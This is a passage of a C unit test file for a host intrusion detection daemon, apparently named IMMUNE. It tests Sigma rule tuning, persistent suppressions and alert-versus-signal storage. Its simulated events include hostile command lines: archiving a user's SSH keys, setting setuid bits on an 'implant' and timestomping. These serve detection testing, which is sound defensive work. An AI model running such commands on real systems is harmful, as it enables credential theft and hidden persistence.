	assert_non_null(strstr(logbuf, "local.yml:22: exception for rule 6f1e0a01-3c2d-4b8e-9a01-000000000027: field "
					"TargetFilename"));
	assert_non_null(strstr(logbuf, "local.yml:25: unknown key 'wat', skipped\n"));
	free(logbuf);
	logbuf = NULL;

	const struct sigma_rule *stomp = NULL, *arch = NULL;
	for (int i = 0; i < rs.n; i++) {
		if (!strcmp(rs.rules[i]->id, RID("20")))
			stomp = rs.rules[i];
		if (!strcmp(rs.rules[i]->id, RID("26")))
			arch = rs.rules[i];
	}
	assert_non_null(stomp);
	assert_non_null(arch);
	assert_string_equal(stomp->level, "low");
	assert_true(tuning_is_signal(t, stomp));
	assert_false(tuning_is_signal(t, arch));

	ev_exec("/usr/bin/tar", "tar czf /srv/k.tgz /home/alice/.ssh");
	ev.parent_executable = "/usr/local/bin/backup";
	assert_true(tuning_suppressed(t, arch, &ev));
	ev.parent_executable = "/usr/bin/bash";
	assert_false(tuning_suppressed(t, arch, &ev));
	struct tuning_stats st;
	tuning_get_stats(t, &st);
	assert_int_equal(st.suppressed, 1);
	assert_int_equal(st.exceptions, 1);

	/* malformed YAML is an error naming the line */
	struct overrides bad = { 0 };
	log = open_memstream(&logbuf, &loglen);
	assert_int_equal(overrides_load_text(&bad, "bad.yml", "disable: [a\nx: ]\n", 16, log, err, sizeof(err)), -1);
	fclose(log);
	assert_non_null(strstr(err, "bad.yml:"));
	assert_non_null(strstr(err, "malformed YAML"));
	free(logbuf);
	logbuf = NULL;
	overrides_free(&bad);

	tuning_free(t);
	overrides_free(&ov);
	sigma_ruleset_free(&rs);
}

static long long count_rows(const char *db, const char *sql)
{
	sqlite3 *h;
	sqlite3_stmt *st;
	long long n = -1;
	assert_int_equal(sqlite3_open(db, &h), SQLITE_OK);
	if (sqlite3_prepare_v2(h, sql, -1, &st, NULL) == SQLITE_OK && sqlite3_step(st) == SQLITE_ROW)
		n = sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	sqlite3_close(h);
	return n;
}

static void test_suppressions_live_and_kept(void **s)
{
	(void)s;
	char dir[] = "/tmp/immune-test-tuning.XXXXXX", db[128], err[256];
	assert_non_null(mkdtemp(dir));
	snprintf(db, sizeof(db), "%s/immune.db", dir);
	struct sigma_ruleset rs;
	load_builtin(&rs);
	const struct sigma_rule *setuid = NULL;
	for (int i = 0; i < rs.n; i++)
		if (!strcmp(rs.rules[i]->id, RID("27")))
			setuid = rs.rules[i];
	assert_non_null(setuid);

	struct tuning *t = tuning_new(&rs, LEVEL_MEDIUM, NULL, db, stderr, err, sizeof(err));
	assert_non_null(t);
	ev_exec("/usr/bin/chmod", "chmod u+s /opt/tool/helper");
	ev.parent_executable = "/opt/tool/install.sh";
	assert_false(tuning_suppressed(t, setuid, &ev));

	struct suppression sp = { .rule = RID("27"), .parent = "/opt/tool/install.sh", .by = "operator:0" };
	long long id = tuning_suppress(t, &sp, err, sizeof(err));
	assert_true(id > 0);
	assert_true(tuning_suppressed(t, setuid, &ev));
	ev.parent_executable = "/usr/bin/bash";
	assert_false(tuning_suppressed(t, setuid, &ev));

	/* unknown rule, invalid UTF-8: refused with the reason */
	struct suppression bad = { .rule = "nope" };
	assert_int_equal(tuning_suppress(t, &bad, err, sizeof(err)), -1);
	assert_string_equal(err, "no loaded rule has the id 'nope'");
	struct suppression bad2 = { .rule = RID("27"), .exe = "/tmp/\xff" };
	assert_int_equal(tuning_suppress(t, &bad2, err, sizeof(err)), -1);

	/* a value with Sigma wildcards is taken literally */
	struct suppression lit = { .rule = RID("27"), .exe = "/usr/bin/ch*" };
	long long lid = tuning_suppress(t, &lit, err, sizeof(err));
	assert_true(lid > 0);
	ev_exec("/usr/bin/chmod", "chmod u+s x");
	assert_false(tuning_suppressed(t, setuid, &ev));

	/* kept in SQLite: a new daemon applies it */
	tuning_free(t);
	assert_int_equal(count_rows(db, "SELECT count(*) FROM suppressions"), 2);
	t = tuning_new(&rs, LEVEL_MEDIUM, NULL, db, stderr, err, sizeof(err));
	assert_non_null(t);
	ev.parent_executable = "/opt/tool/install.sh";
	assert_true(tuning_suppressed(t, setuid, &ev));
	cJSON *list = tuning_suppressions_json(t);
	assert_int_equal(cJSON_GetArraySize(list), 2);
	assert_int_equal(cJSON_GetObjectItem(cJSON_GetArrayItem(list, 0), "suppressed")->valueint, 1);
	cJSON_Delete(list);

	/* removed: matches again */
	assert_int_equal(tuning_unsuppress(t, id, err, sizeof(err)), 0);
	assert_false(tuning_suppressed(t, setuid, &ev));
	assert_int_equal(tuning_unsuppress(t, id, err, sizeof(err)), -1);

	/* a rule-wide suppression that has run out no longer applies */
	struct timespec now;
	clock_gettime(CLOCK_REALTIME, &now);
	struct suppression brief = { .rule = RID("27"), .expires_ns = (int64_t)now.tv_sec * 1000000000 + now.tv_nsec + 50000000 };
	assert_true(tuning_suppress(t, &brief, err, sizeof(err)) > 0);
	assert_true(tuning_suppressed(t, setuid, &ev));
	usleep(80000);
	assert_false(tuning_suppressed(t, setuid, &ev));
	list = tuning_suppressions_json(t);
	assert_int_equal(cJSON_GetArraySize(list), 1);
	cJSON_Delete(list);

	tuning_free(t);
	sigma_ruleset_free(&rs);
	char cmd[200];
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	assert_int_equal(system(cmd), 0);
}

static void test_signals_stored_apart(void **s)
{
	(void)s;
	char dir[] = "/tmp/immune-test-tuning.XXXXXX", db[128], err[256];
	assert_non_null(mkdtemp(dir));
	snprintf(db, sizeof(db), "%s/immune.db", dir);
	char *out = NULL;
	size_t outlen = 0;
	FILE *o = open_memstream(&out, &outlen);
	FILE *log = open_memstream(&logbuf, &loglen);
	struct detect_opts opts = { .db_path = db, .out = o, .format = DETECT_OUT_JSON, .log = log, .host = "h",
				    .min_level = LEVEL_HIGH, .min_level_set = true };
	struct detect *d = detect_new(&opts, err, sizeof(err));
	assert_non_null(d);
	struct detect_stats st;
	detect_get_stats(d, &st);
	/* the defaults: IMMUNE's rules and the vendored SigmaHQ ones */
	assert_true(st.rules_loaded >= 162 + 30);
	assert_int_equal(st.rules_alert + st.rules_signal + st.correlations, st.rules_loaded);

	ev_exec("/usr/bin/touch", "touch -r /bin/ls implant"); /* medium: a signal at --min-level high */
	assert_int_equal(detect_event(d, &ev), 0);
	ev_exec("/usr/bin/chmod", "chmod 4755 implant"); /* high: an alert */
	assert_int_equal(detect_event(d, &ev), 1);
	detect_finish(d);
	detect_get_stats(d, &st);
	assert_int_equal(st.signals, 1);
	assert_int_equal(st.incidents, 1);
	fclose(o);
	assert_null(strstr(out, "touch -r"));
	assert_non_null(strstr(out, "chmod 4755"));
	detect_free(d);
	fclose(log);
	assert_int_equal(count_rows(db, "SELECT count(*) FROM signals WHERE rule_id = '" RID("20") "'"), 1);
	assert_int_equal(count_rows(db, "SELECT count(*) FROM incidents WHERE rule_id = '" RID("20") "'"), 0);
	assert_int_equal(count_rows(db, "SELECT count(*) FROM incidents WHERE rule_id = '" RID("27") "'"), 1);
	free(out);
	free(logbuf);
	logbuf = NULL;

	/* --no-builtin-rules leaves every shipped rule out */
	struct detect_opts none = { .log = stderr, .no_builtin = true };
	d = detect_new(&none, err, sizeof(err));
	assert_non_null(d);
	detect_get_stats(d, &st);
	assert_int_equal(st.rules_loaded, 0);
	detect_free(d);
	char cmd[200];
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	assert_int_equal(system(cmd), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_new_builtin_rules), cmocka_unit_test(test_unseen_behaviour_rules),	    cmocka_unit_test(test_levels_and_folders),
		cmocka_unit_test(test_shipped_rules_load),	    cmocka_unit_test(test_overrides_file),
		cmocka_unit_test(test_suppressions_live_and_kept), cmocka_unit_test(test_signals_stored_apart),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
